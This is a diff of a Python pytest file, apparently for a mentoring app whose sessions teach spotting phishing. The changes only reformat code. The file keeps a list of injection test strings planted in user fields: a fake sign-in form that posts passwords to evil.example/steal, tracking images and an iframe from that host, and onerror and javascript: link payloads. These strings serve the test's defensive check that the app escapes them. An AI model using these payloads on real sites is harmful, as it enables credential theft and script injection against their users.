@@ -19,7 +19,7 @@ pytestmark = pytest.mark.slow
 PASSWORD = "a-long-password"
 VECTORS = (
     ' <form action="https://evil.example/steal"><input type="password" name="p" placeholder="Password">'
-    '<button>Sign in again</button></form>'
+    "<button>Sign in again</button></form>"
     ' <img src="https://evil.example/pixel.png" alt="pixel"> ![md image](https://evil.example/md.png)'
     ' <iframe src="https://evil.example/"></iframe> <span style="position:fixed;top:0;left:0">STYLED</span>'
     ' <img src="x" onerror="alert(1)"> <a href="javascript:alert(2)">js link</a> [md link](javascript:alert(3))'
@@ -47,14 +47,20 @@ def planted_app(services: Services) -> Iterator[str]:
         programme.create_user(None, name, name.title(), role, PASSWORD)
     pair = programme.create_pair(None, "mentor.p", "manager.p", goals=planted("goals"))
     mentor, manager, hr = (programme.actor(n) for n in ("mentor.p", "manager.p", "hr.p"))
-    plan = services.planner.plan_session(PairProfile(language="en", goals="my manager wants to spot phishing emails and online scams", session_minutes=60))
+    plan = services.planner.plan_session(
+        PairProfile(
+            language="en", goals="my manager wants to spot phishing emails and online scams", session_minutes=60
+        )
+    )
     programme.save_plan(mentor, pair.id, plan.session_number, plan, planted("plan"), shared=True)
     [exercise] = programme.assign_exercises(
         manager, pair.id, [Exercise(title=f"Title {planted('title')}", steps=["s"], level="foundation")]
     )
     programme.complete_exercise(manager, exercise.id, planted("feedback"))
     programme.add_journal_entry(manager, pair.id, planted("journal"), shared=True)
-    curriculum = services.planner.curriculum(PairProfile(language="en", goals="my manager wants to spot phishing emails and online scams"), 3)
+    curriculum = services.planner.curriculum(
+        PairProfile(language="en", goals="my manager wants to spot phishing emails and online scams"), 3
+    )
     version = programme.submit_curriculum(mentor, pair.id, curriculum)
     programme.review_curriculum(hr, version.id, approve=False, comment=planted("comment"))
     yield from serve(services)
